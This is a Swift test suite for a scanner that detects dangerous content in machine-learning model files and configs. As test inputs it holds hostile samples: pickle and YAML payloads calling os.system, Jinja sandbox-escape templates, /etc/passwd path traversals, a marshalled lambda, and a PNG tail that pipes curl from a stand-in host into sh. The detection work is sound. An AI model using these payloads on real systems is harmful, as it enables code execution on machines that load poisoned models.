import Documents
import Foundation
import ModelFormats
import Testing

@testable import Scanning

/// Formats other than pickles: what their loaders would do.
@Suite struct FormatTests {
    /// `marshal.dumps` of `lambda x: __import__('os').system('true')`, by CPython 3.11.
    private static let lambda =
        "4wEAAAAAAAAAAAAAAAMAAAADAAAA80oAAACXAHQBAAAAAAAAAAAAAGQBpgEAAKsBAAAAAAAAAACgAQAAAAAAAAAAAAAAAAAAAAAAAAAAZAKmAQAAqwEAAAAAAAAAAHABfABTACkDTtoCb3PaBHRydWUpAtoKX19pbXBvcnRfX9oGc3lzdGVtKQHaAXhzAQAAACD6CG1vZGVsLnB5+gg8bGFtYmRhPnIHAAAAAQAAAHMhAAAAgACNKpBU0Qoa1Aoa1woh0gohoCbRCinUCinQCi6oUYAA8wAAAAA="

    @Test func kerasConfigurationsAreJudgedByWhatTheyName() throws {
        func config(_ layer: String) throws -> [String] {
            try scan(
                ZipMaker.of([
                    (
                        "config.json",
                        Array("{\"class_name\":\"Sequential\",\"module\":\"keras\",\"config\":{\"layers\":[\(layer)]}}".utf8)
                    ), ("metadata.json", Array("{}".utf8)),
                ]), name: "m.keras"
            ).told
        }
        #expect(try config(#"{"class_name":"Dense","module":"keras.layers","config":{"units":2,"activation":"relu"}}"#).isEmpty)
        #expect(try config(#"{"class_name":"function","module":"os","config":"system"}"#) == ["critical keras-unknown-object"])
        #expect(try config(#"{"class_name":"Popen","module":"subprocess","config":{}}"#) == ["critical keras-unknown-object"])
        #expect(
            try config(#"{"class_name":"function","module":"keras.utils","config":"get_file"}"#) == [
                "critical keras-unknown-object"
            ])
        #expect(try config(#"{"class_name":"Squeeze","module":"acme.layers","config":{}}"#) == ["medium keras-unknown-object"])
        #expect(
            try config(#"{"class_name":"StringLookup","module":"keras.layers","config":{"vocabulary":"/etc/passwd"}}"#) == [
                "high keras-loads-file"
            ])
        #expect(
            try config(
                #"{"class_name":"Lambda","module":"keras.layers","config":{"function":{"class_name":"__lambda__","config":{"code":"\#(Self.lambda)"}}}}"#
            ) == ["high keras-lambda"])
        #expect(
            try config(
                #"{"class_name":"Lambda","module":"keras.layers","config":{"function":["\#(Self.lambda)",null,null],"function_type":"lambda"}}"#
            ) == ["high keras-lambda"])
        #expect(
            try config(
                #"{"class_name":"Bidirectional","module":"keras.layers","config":{"layer":{"class_name":"TFSMLayer","module":"keras.layers","config":{"filepath":"x"}}}}"#
            ) == ["high keras-loads-file"])
    }

    @Test func yamlTagsAreJudgedByWhatTheyMake() throws {
        func told(_ yaml: String) throws -> [String] { try scan(yaml, name: "config.yaml").told }
        #expect(try told("a: 1\nb: [x, !!python/tuple [1, 2]]\n").isEmpty)
        #expect(try told("a: !!python/object/apply:os.system ['echo']\n") == ["critical yaml-object"])
        #expect(
            try told("%TAG !p! tag:yaml.org,2002:python/\n---\na: !p!object/apply:subprocess.run [[x]]\n") == [
                "critical yaml-object"
            ])
        #expect(try told("a: 1\n---\nb: !!python/object/new:os.system [x]\n") == ["critical yaml-object"])
        #expect(try told("a: !!python/name:eval\n") == ["critical yaml-object"])
        #expect(try told("# !!python/object/apply:os.system\na: 'text !!python/object/apply:os.system'\n").isEmpty)
        #expect(try told("model:\n  _target_: torch.nn.Linear\n  in: 2\n").isEmpty)
        #expect(try told("model:\n  _target_: os.system\n  command: x\n") == ["critical config-target"])
        #expect(try told("model:\n  _target_: torch.hub.os.system\n") == ["critical config-target"])
    }

    @Test func templatesAreJudgedByWhatTheyReach() throws {
        func told(_ template: String) throws -> [String] { try scan(template, name: "chat_template.jinja").told }
        #expect(
            try told(
                "{% set ns = namespace(found=false) %}{% for m in messages %}{{ '<|im_start|>' + m['role'] + '\\n' + m.content | trim }}{% if loop.last %}{{ raise_exception('no') }}{% endif %}{% endfor %}"
            ).isEmpty)
        for template in [
            "{{ cycler.__init__.__globals__.os.popen('id').read() }}", "{{ ''['__class__'].__mro__ }}",
            "{{ ()|attr('__cla' ~ 'ss__') }}", "{{ x|attr('\\x5f\\x5fclass\\x5f\\x5f') }}",
            "{% include '/etc/passwd' %}", "{{ '{0.__class__}'.format(x) }}", "{{ ''[['__','class','__']|join] }}",
            "{{ ''['__ssalc__'[::-1]] }}", "{% set a = messages.__class__ %}",
        ] {
            #expect(try told(template).first?.hasSuffix("template-escape") == true, "\(template)")
        }
        #expect(try told("{# {{ x.__class__ }} #}{% raw %}{{ x.__class__ }}{% endraw %}plain __class__ text").isEmpty)
        #expect(
            try scan(#"{"chat_template": "{{ cycler.__init__ }}"}"#, name: "tokenizer_config.json").told == [
                "critical template-escape"
            ])
    }

    @Test func configurationsThatBringCodeAreTold() throws {
        #expect(
            try scan(#"{"auto_map": {"AutoModel": "modeling_x.XModel"}}"#, name: "config.json").told == [
                "info config-custom-code"
            ])
        #expect(
            try scan(#"{"auto_map": {"AutoModel": "other/repo--modeling_x.XModel"}}"#, name: "config.json").told.first
                == "medium config-remote-code")
        #expect(
            try scan(#"{"py/reduce": [{"py/function": "os.system"}, {"py/tuple": ["x"]}]}"#, name: "a.json").worst == .critical)
        #expect(try scan("{\"broken\"", name: "config.json").errors.count == 1)
    }

    @Test func onnxPathsAreTakenAsRuntimesTakeThem() throws {
        func model(_ location: String) -> [UInt8] {
            func field(_ number: Int, _ bytes: [UInt8]) -> [UInt8] { [UInt8(number << 3 | 2), UInt8(bytes.count)] + bytes }
            let entry = field(1, Array("location".utf8)) + field(2, Array(location.utf8))
            let tensor = field(8, Array("w".utf8)) + [13 << 3 | 2, UInt8(entry.count)] + entry + [14 << 3, 1]
            // In the attribute of a node of a subgraph, where readers of initializers alone never look.
            let constant = field(4, Array("Constant".utf8)) + field(5, field(1, Array("value".utf8)) + field(5, tensor))
            let branch = field(4, Array("If".utf8)) + field(5, field(1, Array("then_branch".utf8)) + field(6, field(1, constant)))
            return [0x08, 8] + field(7, field(1, branch)) + field(8, field(1, []) + [0x10, 17])
        }
        #expect(try scan(model("weights.bin"), name: "m.onnx").told.isEmpty)
        #expect(try scan(model("a/../weights.bin"), name: "m.onnx").told.isEmpty)
        for location in ["../w", "/etc/passwd", "a/../../w", "..\\w", "C:\\w", "file:///etc/passwd"] {
            #expect(try scan(model(location), name: "m.onnx").told == ["high onnx-external-path"], "\(location)")
        }
    }

    @Test func whatHidesBehindAPictureIsTold() throws {
        let png: [UInt8] =
            [0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a] + [0, 0, 0, 0] + Array("IEND".utf8) + [0xae, 0x42, 0x60, 0x82]
        #expect(try scan(png, name: "a.png").told.isEmpty)
        let hidden = try scan(png + Array("cos\nsystem\n(S'x'\ntR.".utf8), name: "a.png")
        #expect(hidden.told == ["critical pickle-dangerous-call", "high hidden-tail"])
        #expect(
            try scan(png + Array("import os; os.system('curl http://x.example.invalid|sh')".utf8), name: "a.png").told == [
                "high hidden-tail"
            ])
        #expect(try scan(png + [0, 0, 0, 0], name: "a.png").told.isEmpty)
    }

    @Test func namesThatLieAreTold() throws {
        let report = try scan("cos\nsystem\n(S'x'\ntR.", name: "model.safetensors")
        #expect(report.told == ["critical pickle-dangerous-call", "medium name-disguise"])
        #expect(try scan([0x7f] + Array("ELF".utf8) + [UInt8](repeating: 0, count: 60), name: "model.bin").worst == .medium)
        #expect(try scan([0x7f] + Array("ELF".utf8) + [UInt8](repeating: 0, count: 60), name: "pytorch_model.bin").worst == .high)
        #expect(
            try scan([0x11, 0x9e, 0xfe, 0x33, 0xca] + [UInt8](repeating: 0x91, count: 99), name: "model.pt").errors.count == 1)
        #expect(
            try scan([0x11, 0x9e, 0xfe, 0x33, 0xca] + [UInt8](repeating: 0x91, count: 99), name: "x.dat").told == [
                "low unknown-content"
            ])
    }

    @Test func objectArraysArePickles() throws {
        func npy(_ type: String, _ data: [UInt8]) -> [UInt8] {
            let header = Array("{'descr': \(type), 'fortran_order': False, 'shape': (1,), }\n".utf8)
            return [0x93] + Array("NUMPY".utf8) + [1, 0] + Assembly.little(header.count, 2) + header + data
        }
        let payload = Array("cos\nsystem\n(S'x'\ntR.".utf8)
        #expect(try scan(npy("'|O'", payload), name: "a.npy").worst == .critical)
        #expect(try scan(npy("[('a', '<i4'), ('b', '|O')]", payload), name: "a.npy").worst == .critical)
        #expect(try scan(npy("'<f8'", [UInt8](repeating: 0, count: 8)), name: "a.npy").told.isEmpty)
        #expect(try scan(npy("'<f8'", [0, 0]), name: "a.npy").errors.count == 1)
        #expect(try scan(ZipMaker.of([("a.npy", npy("'|O'", payload))]), name: "a.npz").worst == .critical)
    }

    @Test func compiledPythonIsJudgedByItsNames() throws {
        let code = try #require(PureFunctions.base64(Array(Self.lambda.utf8)))
        let report = try scan([0xa7, 0x0d, 0x0d, 0x0a] + [UInt8](repeating: 0, count: 12) + code, name: "m.pyc")
        #expect(report.told == ["high python-bytecode", "medium python-bytecode"])
        guard case .code(let object) = try MarshalReader.read(code) else {
            Issue.record("no code")
            return
        }
        #expect(object.names == ["__import__", "system"] && object.variables == ["x"] && object.layout == .python311)
        for length in 0..<code.count {
            // However it is cut, reading comes to an end.
            _ = try? MarshalReader.read(Array(code[..<length]))
        }
    }

    @Test func otherPeoplesObjectsAreTold() throws {
        #expect(
            try scan(
                [0xac, 0xed, 0, 5, 0x73, 0x72] + Array("org.apache.commons.collections.functors.InvokerTransformer".utf8),
                name: "a.ser"
            ).told == ["high foreign-serialisation"])
        #expect(try scan(Array("RDX3\nX\n".utf8) + [0, 0, 0, 3], name: "a.rds").told == ["medium foreign-serialisation"])
    }
}
